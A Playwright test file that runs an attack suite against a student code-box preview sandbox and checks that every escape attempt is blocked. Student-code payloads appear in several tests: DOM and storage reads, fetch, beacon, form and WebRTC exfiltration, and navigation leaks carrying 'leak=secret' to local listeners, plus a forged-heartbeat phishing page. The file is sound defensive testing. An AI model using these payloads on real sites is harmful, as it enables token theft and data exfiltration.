import { createSocket, type Socket } from 'node:dgram';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createSecureServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { chromium, expect, type Page, test } from '@playwright/test';
import { chromiumArgs, chromiumExecutable } from '../scripts/chromium.mjs';
import { selfSignedCertificate } from '../scripts/self-signed-certificate.mjs';
import { e2ePorts } from './ports';
import { accessTokenOf, demo, registerStudent, storedTokens } from './support';

/**
 * The preview's attack suite: student code tries to get out of the sandboxed frame in every way
 * an attacker found. Each attempt must fail; local listeners (http, https and a UDP socket) prove
 * nothing got out.
 */

/** A page that keeps the preview's watchdog fed, as a phishing page would once framed. */
const phishingPage = `<h1>Sign in again</h1>
<script>setInterval(() => parent.postMessage({ sparkedPreview: true, type: 'alive' }, '*'), 100);</script>`;

let listener: Server;
let secureListener: Server;
let stun: Socket;
let hits: string[];
let packets: number;
let outside: string;
let secureOutside: string;
let stunPort: number;
const listen = async (server: Server) => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
};
/** Pages the listeners answer with; a page with an icon of its own asks for no favicon. */
const pages: Record<string, string> = {
  '/phish': phishingPage,
  '/control': '<link rel="icon" href="data:,"><p>Reached</p>',
};
const record = (scheme: string) => (request: IncomingMessage, response: ServerResponse) => {
  hits.push(`${scheme} ${request.method} ${request.url}`);
  const page = pages[request.url ?? ''];
  response.writeHead(200, {
    'access-control-allow-origin': '*',
    'content-type': page ? 'text/html' : 'text/plain',
  });
  response.end(page ?? 'leaked');
};
test.beforeAll(async () => {
  hits = [];
  packets = 0;
  listener = createServer(record('http'));
  outside = `http://127.0.0.1:${await listen(listener)}`;
  secureListener = createSecureServer(selfSignedCertificate(), record('https'));
  secureOutside = `https://127.0.0.1:${await listen(secureListener)}`;
  stun = createSocket('udp4');
  stun.on('message', () => {
    packets += 1;
  });
  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
  stunPort = stun.address().port;
});
test.afterAll(async () => {
  await new Promise<void>((resolve) => listener.close(() => resolve()));
  await new Promise<void>((resolve) => secureListener.close(() => resolve()));
  await new Promise<void>((resolve) => stun.close(() => resolve()));
});

/** Puts `js` into a new project of a fresh student, opens it and runs it. */
async function runScript(page: Page, js: string, html = '<h1>Attack</h1>') {
  await registerStudent(page, 'Mallory');
  const token = (await storedTokens(page))?.accessToken;
  const headers = { authorization: `Bearer ${token}` };
  const created = await page.request.post('/tools-api/gpt/code-box', {
    headers,
    data: { prompt: 'a timer' },
  });
  const { id } = (await created.json()).data as { id: string };
  await page.request.put(`/tools-api/gpt/code-box/${id}/code`, {
    headers,
    data: { code: { html, css: '', js } },
  });
  await page.goto(`/ai-tools/code-box/${id}`);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  return page.getByRole('log');
}

test('student code cannot reach the page, its storage, the network, popups or navigation', async ({
  page,
  context,
}) => {
  const attempts = `
const report = (name, attempt) => {
  try {
    const value = attempt();
    console.log(name + ': reached ' + String(value).slice(0, 40));
  } catch (error) {
    console.log(name + ': blocked');
  }
};
report('parent DOM', () => parent.document.body.innerHTML = 'pwned');
report('top DOM', () => top.document.title);
report('cookies', () => document.cookie);
report('local storage', () => localStorage.getItem('activeTheme'));
report('session storage', () => sessionStorage.getItem('tokens'));
report('indexedDB', () => indexedDB.open('x'));
report('top navigation', () => { top.location.href = '${'OUTSIDE'}/navigated'; return 'no error'; });
report('popup', () => window.open('${'OUTSIDE'}/popup') === null ? (() => { throw new Error('null'); })() : 'opened');
fetch('${'OUTSIDE'}/fetch').then(() => console.log('fetch: reached'), () => console.log('fetch: blocked'));
const request = new XMLHttpRequest();
request.open('GET', '${'OUTSIDE'}/xhr');
request.onload = () => console.log('xhr: reached');
request.onerror = () => console.log('xhr: blocked');
request.send();
new Image().src = '${'OUTSIDE'}/image';
// A beacon is queued and a sandboxed form submits silently: the listener shows whether they left.
navigator.sendBeacon('${'OUTSIDE'}/beacon', 'x');
try { new WebSocket('${'OUTSIDE'.replace('http', 'ws')}/socket'); } catch { console.log('websocket: blocked'); }
const form = document.createElement('form');
form.action = '${'OUTSIDE'}/form';
form.method = 'post';
document.body.append(form);
form.submit();
const link = document.createElement('link');
link.rel = 'stylesheet';
link.href = '${'OUTSIDE'}/style.css';
document.head.append(link);
console.log('done');
`.replaceAll('OUTSIDE', outside);
  const popups: string[] = [];
  context.on('page', (popup) => popups.push(popup.url()));
  const log = await runScript(page, attempts);
  await expect(log).toContainText('done');
  await page.waitForTimeout(1500);
  for (const line of [
    'parent DOM: blocked',
    'top DOM: blocked',
    'cookies: blocked',
    'local storage: blocked',
    'session storage: blocked',
    'indexedDB: blocked',
    'top navigation: blocked',
    'popup: blocked',
    'fetch: blocked',
    'xhr: blocked',
  ])
    await expect(log, line).toContainText(line);
  await expect(log).not.toContainText('reached');
  expect(hits).toEqual([]);
  expect(popups).toEqual([]);
  await expect(page).toHaveURL(/\/ai-tools\/code-box\/[0-9a-f-]+$/);
  await expect(page.getByRole('heading', { name: '3. Preview' })).toBeVisible();
  await expect(page.locator('body')).not.toContainText('pwned');
});

test('a loop that never ends is stopped and reported, and the page keeps working', async ({
  page,
}) => {
  const log = await runScript(
    page,
    "console.log('before');\nlet n = 0;\nwhile (true) {\n  n += 1;\n}",
  );
  await expect(
    page.getByText(
      'A loop on line 3 of the script ran for more than a second, so the preview stopped it.',
    ),
  ).toBeVisible();
  await expect(log).toContainText('before');
  await expect(log).toContainText('Line 3: a loop ran for more than a second and was stopped.');
  await page.getByRole('tab', { name: 'CSS' }).click();
  await expect(page.getByRole('textbox', { name: 'CSS' })).toBeVisible();
});

test('a frame frozen where no loop guard reaches is closed by the watchdog', async ({ page }) => {
  // A regular expression that backtracks for ever: no loop to guard, the frame's thread is stuck.
  await runScript(page, "console.log('start');\n/^(a+)+$/.test('a'.repeat(40) + 'b');");
  await expect(page.getByText(/^The preview stopped responding, so it was closed\./)).toBeVisible({
    timeout: 15_000,
  });
  await expect(page.locator('iframe[title="Preview of your project"]')).toHaveCount(0);
  await page.getByRole('tab', { name: 'CSS' }).click();
  await expect(page.getByRole('textbox', { name: 'CSS' })).toBeVisible();
});

test('an error in the script is shown with its line in the editor', async ({ page }) => {
  const log = await runScript(page, 'const ok = 1;\nmissing();\n');
  await expect(log).toContainText('Line 2: Uncaught ReferenceError: missing is not defined');
});

test.describe('a preview that navigates itself', () => {
  // The https listener's certificate is self-signed: were the frame allowed to go there, it would.
  test.use({ ignoreHTTPSErrors: true });
  const closed = 'The project tried to open another page, so the preview closed it.';

  /** Runs the project, then checks the preview closed with its reason and nothing got out. */
  async function expectClosedAndNothingOut(page: Page, project: { js?: string; html?: string }) {
    hits = [];
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await runScript(page, project.js ?? '', project.html);
    await page.waitForTimeout(3000);
    expect(hits).toEqual([]);
    expect(requests.filter((url) => url.includes('?d=') || url.includes('leak='))).toEqual([]);
    await expect(page.getByText(closed)).toBeVisible();
    await expect(page.locator('iframe[title="Preview of your project"]')).toHaveCount(0);
  }

  test('a meta refresh to an outside https page is refused and closes the preview', async ({
    page,
  }) => {
    await expectClosedAndNothingOut(page, {
      html: `<meta http-equiv="refresh" content="0;url=${secureOutside}/refresh?leak=secret">`,
    });
  });

  test('location.href to an outside https page is refused and closes the preview', async ({
    page,
  }) => {
    await expectClosedAndNothingOut(page, {
      js: `location.href = '${secureOutside}/href?d=' + encodeURIComponent(document.title);`,
    });
  });

  test('a same-origin navigation to the API is refused and closes the preview', async ({
    page,
  }) => {
    await expectClosedAndNothingOut(page, { js: "location.href = '/tools-api/wallets?d=secret';" });
  });

  test('a navigation to a site authors may embed is refused too, before any request', async () => {
    // It starts a browser of its own, with a host name of its own.
    test.slow();
    // The app's pages may frame the embeddable sites, so only the preview page's own policy can
    // stop a project from navigating there. The browser resolves the admin-allowed host to the
    // local https listener, so a request that left would be heard.
    const host = `embed-${Date.now()}.sparked-e2e.test`;
    const port = new URL(secureOutside).port;
    const admin = { authorization: `Bearer ${await accessTokenOf(demo.admin)}` };
    const browser = await chromium.launch({
      executablePath: chromiumExecutable,
      args: [...chromiumArgs, `--host-resolver-rules=MAP ${host} 127.0.0.1:${port}`],
    });
    const context = await browser.newContext({
      baseURL: `http://127.0.0.1:${e2ePorts.app}`,
      ignoreHTTPSErrors: true,
    });
    const page = await context.newPage();
    try {
      const added = await page.request.post('/sparked-api/embeddable-hosts', {
        headers: admin,
        data: { host, note: 'The code box attack suite' },
      });
      expect(added.status()).toBe(201);
      // The route works: a page of the browser reaches the listener under that name.
      hits = [];
      const control = await context.newPage();
      await control.goto(`https://${host}/control`);
      await control.close();
      expect(hits).toEqual(['https GET /control']);
      await expectClosedAndNothingOut(page, {
        // Once the page has settled, so the navigation does not race the document's own loading.
        js: `setTimeout(() => { location.href = 'https://${host}/watch?leak=' + encodeURIComponent(document.title); }, 500);`,
      });
    } finally {
      await page.request.delete(`/sparked-api/embeddable-hosts/${host}`, { headers: admin });
      await browser.close();
    }
  });

  test('a navigated page cannot keep itself open with a forged heartbeat', async ({ page }) => {
    hits = [];
    await runScript(page, `location.href = '${secureOutside}/phish';`);
    // Longer than the watchdog's limit: a page that fed it would still be showing.
    await page.waitForTimeout(5000);
    await expect(
      page.frameLocator('iframe').frameLocator('iframe').getByText('Sign in again'),
    ).toHaveCount(0);
    expect(hits).toEqual([]);
    await expect(page.getByText(closed)).toBeVisible();
  });
});

test('WebRTC cannot send a packet, from the page or from a frame inside it', async ({ page }) => {
  const offer = `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${'STUN'}' }] });
pc.createDataChannel('leak');
pc.createOffer().then((offer) => pc.setLocalDescription(offer));`;
  const js = `try {
${offer}
  console.log('webrtc: reached');
} catch {
  console.log('webrtc: blocked');
}
const frame = document.createElement('iframe');
frame.srcdoc = ${JSON.stringify(`<script>${offer}</script>`)};
document.body.append(frame);
console.log('done');`.replaceAll('STUN', String(stunPort));
  const html = `<iframe srcdoc="${`<script>${offer}</script>`.replaceAll('STUN', String(stunPort)).replaceAll('"', '&quot;')}"></iframe>`;
  packets = 0;
  const log = await runScript(page, js, html);
  await expect(log).toContainText('done');
  await page.waitForTimeout(3000);
  expect(packets).toBe(0);
  await expect(log).toContainText('webrtc: blocked');
});

test('a loop inside a script of the HTML is stopped and reported with its line', async ({
  page,
}) => {
  const log = await runScript(
    page,
    '',
    "<h1>Loop</h1>\n<script>\nconsole.log('before');\nwhile (true) {}\n</script>",
  );
  await expect(
    page.getByText(
      'A loop on line 4 of the HTML ran for more than a second, so the preview stopped it.',
    ),
  ).toBeVisible();
  await expect(log).toContainText('before');
  await expect(log).toContainText(
    'HTML line 4: a loop ran for more than a second and was stopped.',
  );
});
